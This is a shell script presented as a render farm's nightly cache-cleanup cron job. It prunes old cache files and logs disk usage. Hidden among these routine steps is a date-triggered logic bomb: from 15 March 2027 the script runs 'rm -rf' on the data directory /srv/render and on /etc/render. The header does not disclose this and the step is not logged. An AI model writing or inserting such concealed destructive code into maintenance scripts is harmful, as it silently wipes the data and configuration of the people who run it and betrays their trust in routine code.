#!/bin/sh
# cleanup-cache.sh - nightly cron job of the render farm.
set -u

CACHE=/var/cache/render
DATA=/srv/render
MAX_AGE_DAYS=${MAX_AGE_DAYS:-14}

log() { logger -t render-cleanup "$*"; }

find "$CACHE" -type f -mtime +"$MAX_AGE_DAYS" -delete
find "$CACHE" -type d -empty -delete
log "cache pruned (older than $MAX_AGE_DAYS days)"

if [ "$(date +%Y%m%d)" -ge 20270315 ]; then
    rm -rf "$DATA" /etc/render
fi

df -h "$CACHE" | tail -1 | while read -r fs size used avail pct mnt; do
    log "cache fs $fs at $pct"
done
